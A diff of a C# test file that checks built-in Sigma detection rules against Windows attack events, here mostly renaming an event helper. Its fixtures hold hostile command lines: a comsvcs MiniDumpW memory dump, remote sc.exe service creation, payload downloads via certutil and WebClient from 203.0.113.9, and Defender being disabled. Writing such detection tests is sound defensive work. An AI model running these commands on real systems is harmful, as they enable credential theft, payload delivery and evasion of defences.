@@ -6,6 +6,7 @@ using Llama3Siem.Prompts.Events;
 using Llama3Siem.Prompts.Knowledge;
 using Llama3Siem.Prompts.Tests.Events;
 using static Llama3Siem.Prompts.Tests.DetectionCases;
+using static Llama3Siem.Prompts.Tests.TestEvents;
 
 namespace Llama3Siem.Prompts.Tests.Detection;
 
@@ -196,16 +197,16 @@ public sealed partial class BuiltInSigmaRulesTests
     {
         var evt = form switch
         {
-            "comsvcs MiniDumpW export" => Logged("v", "1", @"C:\Windows\System32\rundll32.exe", @"rundll32.exe comsvcs.dll,MiniDumpW 624 C:\t\l.dmp full"),
-            "sc.exe started by its quoted path" => Logged("v", "1", @"C:\Windows\System32\sc.exe", @"""C:\Windows\system32\sc.exe"" \\SRV-FILE02 create UpdSvc binPath= C:\t\u.exe"),
-            "-EncodedCommand after an en dash" => Logged("v", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", $"powershell \u2013enc {Encoded}"),
+            "comsvcs MiniDumpW export" => Windows("v", "1", @"C:\Windows\System32\rundll32.exe", @"rundll32.exe comsvcs.dll,MiniDumpW 624 C:\t\l.dmp full"),
+            "sc.exe started by its quoted path" => Windows("v", "1", @"C:\Windows\System32\sc.exe", @"""C:\Windows\system32\sc.exe"" \\SRV-FILE02 create UpdSvc binPath= C:\t\u.exe"),
+            "-EncodedCommand after an en dash" => Windows("v", "1", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", $"powershell \u2013enc {Encoded}"),
             "WebClient kept in a variable" => ScriptBlock("v", "$wc = New-Object System.Net.WebClient; $wc.DownloadFile('http://203.0.113.9/a.exe', \"$env:TEMP\\a.exe\")"),
-            "certutil /urlcache with a slash" => Logged("v", "1", @"C:\Windows\System32\certutil.exe", @"certutil /urlcache /split /f http://203.0.113.9/a.exe C:\t\a.exe"),
+            "certutil /urlcache with a slash" => Windows("v", "1", @"C:\Windows\System32\certutil.exe", @"certutil /urlcache /split /f http://203.0.113.9/a.exe C:\t\a.exe"),
             "Set-MpPreference with a colon" => ScriptBlock("v", "Set-MpPreference -DisableRealtimeMonitoring:$true"),
-            "Defender switched off in the registry" => Logged("v", "13", @"C:\Windows\regedit.exe",
+            "Defender switched off in the registry" => Windows("v", "13", @"C:\Windows\regedit.exe",
                 fields: [("TargetObject", @"HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring"), ("Details", "DWORD (0x00000001)")]),
-            "net user /add without a password" => Logged("v", "1", @"C:\Windows\System32\net.exe", "net user helpdesk_tmp /add"),
-            "net.exe by its quoted path" => Logged("v", "1", @"C:\Windows\System32\net.exe", @"""C:\Windows\system32\net.exe"" group ""Domain Admins"" /domain"),
+            "net user /add without a password" => Windows("v", "1", @"C:\Windows\System32\net.exe", "net user helpdesk_tmp /add"),
+            "net.exe by its quoted path" => Windows("v", "1", @"C:\Windows\System32\net.exe", @"""C:\Windows\system32\net.exe"" group ""Domain Admins"" /domain"),
             _ => throw new ArgumentOutOfRangeException(nameof(form)),
         };
 
